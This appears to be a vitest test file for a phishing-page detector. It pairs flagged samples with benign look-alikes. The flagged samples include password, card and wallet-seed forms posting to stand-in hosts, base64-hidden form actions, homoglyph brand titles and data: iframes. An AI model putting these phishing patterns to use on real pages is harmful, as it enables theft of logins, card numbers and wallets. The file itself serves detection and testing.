import { describe, expect, test } from 'vitest'
import { findPhishing } from './phishing.ts'

const password = '<input name="user"><input type="password" name="pass">'
const page = (title: string, body: string) =>
  `<!doctype html><html><head><title>${title}</title></head><body>${body}</body></html>`
const signsOf = (html: string, hosts?: string[]) => [
  ...new Set(findPhishing('index.html', html, hosts).map((one) => one.sign)),
]

describe('signs', () => {
  test.each([
    {
      name: 'a password form that posts to another host',
      html: page('Welcome', `<form method=post action="https://collect.example/x.php">${password}</form>`),
      want: ['password-elsewhere'],
    },
    {
      name: 'the same by the button',
      html: page('Welcome', `<form>${password}<button formaction="//collect.example/x">go</button></form>`),
      want: ['password-elsewhere'],
    },
    {
      name: 'quotes, case and entities that hide it',
      html: page('Welcome', `<FORM ACTION='https&#58;//collect.example/x'><INPUT TYPE=Password></FORM>`),
      want: ['password-elsewhere'],
    },
    {
      name: 'a brand’s name over a password field',
      html: page('PayPal', `<h1>Log in to your account</h1><form action="/go">${password}</form>`),
      want: ['brand-login'],
    },
    {
      name: 'a brand’s door',
      html: page('Sign in to your Microsoft account', `<form action="/go">${password}</form>`),
      want: ['brand-login'],
    },
    {
      name: 'a logo alone says the name',
      html: page('Welcome', `<img alt="Facebook" src="l.svg">${password}`),
      want: ['brand-login'],
    },
    {
      name: 'a brand’s own login page, copied',
      html: page(
        'Sign in',
        `<form action="/go"><input type="email" name="loginfmt"><input type=password></form>`,
      ),
      want: ['copied-login'],
    },
    {
      name: 'an address that a script decodes',
      html: page(
        'Welcome',
        `<form id=f>${password}</form><script>f.action = atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUv")</script>`,
      ),
      want: ['hidden-form'],
    },
    {
      name: 'an address written in signs',
      html: page('Welcome', `<form action="javascript:send()">${password}</form>`),
      want: ['hidden-form'],
    },
    {
      name: 'a card number that goes elsewhere',
      html: page(
        'Update your payment',
        `<form action="http://192.0.2.9/c"><input autocomplete="cc-number"><input name=cvv></form>`,
      ),
      want: ['password-elsewhere'],
    },
    {
      name: 'a recovery phrase that goes elsewhere',
      html: page(
        'Restore your wallet',
        `<form action="https://seed.example/"><textarea name=seed></textarea></form>`,
      ),
      want: ['password-elsewhere'],
    },
    {
      name: 'a form that a script decodes, from base64',
      html: page(
        'Login',
        `<script>document.write(atob("${btoa(`<form action="https://x.example/">${password}</form>`)}"))</script>`,
      ),
      want: ['hidden-form'],
    },
    {
      name: 'the same from signs',
      html: page(
        'Login',
        `<script>document.write(unescape("${encodeURIComponent(`<form>${password}</form>`)}"))</script>`,
      ),
      want: ['hidden-form'],
    },
    {
      name: 'a brand’s name in look-alike letters',
      html: page('Pаypаl', `<form action="/go">${password}</form>`),
      want: ['brand-login'],
    },
    {
      name: 'a page in a frame’s address',
      html: page('Welcome', `<iframe src="data:text/html;base64,PGZvcm0+"></iframe>`),
      want: ['data-frame'],
    },
  ])('$name', ({ html, want }) => expect(signsOf(html)).toEqual(want))
})

describe('healthy pages', () => {
  test.each([
    {
      name: 'a login of one’s own',
      html: page('Splitpot', `<h1>Log in</h1><form method=post action="/login">${password}</form>`),
    },
    {
      name: 'sign in with others',
      html: page(
        'Splitpot – sign in',
        `<h2>Sign in with Google</h2><button><img alt="Google" src="g.svg" hidden>Continue with Google</button>`,
      ),
    },
    {
      name: 'sign in with others, or a password',
      html: page(
        'Splitpot',
        `<h1>Sign in</h1><form action="/login">${password}</form><button>Sign in with GitHub</button><h2>or continue with Apple</h2>`,
      ),
    },
    {
      name: 'a tutorial about a login',
      html: page(
        'How PayPal login works',
        `<h1>Building a PayPal login</h1><pre>&lt;form&gt;</pre><pre><form action="https://x.example"><input type=password></form></pre>`,
      ),
    },
    {
      name: 'a password manager',
      html: page(
        'Vault',
        `<h1>Your logins</h1><h2>Add a login</h2><input type=password><li>Netflix</li><li>Google</li>`,
      ),
    },
    {
      name: 'an app for a service, with an API key',
      html: page(
        'Charts for GitHub',
        `<h1>GitHub stars over time</h1><input type=password placeholder="token">`,
      ),
    },
    {
      name: 'an importer',
      html: page('Import from Dropbox', `<h1>Move your photos</h1><form action="/start">${password}</form>`),
    },
    {
      name: 'a clone for practice, without a password',
      html: page('Netflix clone', `<h1>Netflix</h1><button>Play</button>`),
    },
    {
      name: 'a search that posts elsewhere',
      html: page('Home', `<form action="https://duckduckgo.com/"><input type=search></form>`),
    },
    {
      name: 'a newsletter that posts elsewhere',
      html: page('Home', `<form action="https://list.example/subscribe"><input type=email></form>`),
    },
    {
      name: 'decoding what is no address',
      html: page('Home', `<script>const icon = atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUv")</script>`),
    },
    {
      name: 'the word apple',
      html: page('Apple pie', `<h1>Apple pie</h1><form action=/in>${password}</form>`),
    },
    { name: 'the word chase', html: page('Chase the cat', `<form action=/in>${password}</form>`) },
    {
      name: 'a shop with its own checkout and PayPal’s mark',
      html: page(
        'Checkout',
        `<img alt="PayPal" src=p.svg><form action="/pay"><input autocomplete="cc-number"><input name=cvc></form>`,
      ),
    },
    {
      name: 'a card game',
      html: page(
        'Cards',
        `<form action="https://x.example/deal"><input name=card><input name=seed-packet></form>`,
      ),
    },
    {
      name: 'an image kept in a script',
      html: page('Home', `<script>const icon = atob("${btoa('<svg><path d="M0 0h1"/></svg>')}")</script>`),
    },
    { name: 'nothing', html: '' },
  ])('$name', ({ html }) => expect(signsOf(html)).toEqual([]))

  test('a brand on its own domain, and a form that posts to a host of one’s own', () => {
    const html = page('GitHub', `<form action="https://api.my.app/in">${password}</form>`)
    expect(signsOf(html, ['github.com', 'api.my.app'])).toEqual([])
  })
})

test('a page made to be slow is read as fast as any', () => {
  for (const piece of [
    '<iframe ',
    '<form action="',
    '<script>',
    '<!--',
    '<a "',
    '<title>',
    '<img alt=',
    '&#58;',
    '<h1><',
  ]) {
    const html = piece.repeat(Math.ceil((1024 * 1024) / piece.length))
    const from = performance.now()
    findPhishing('index.html', html)
    expect(performance.now() - from, piece).toBeLessThan(1_000)
  }
})
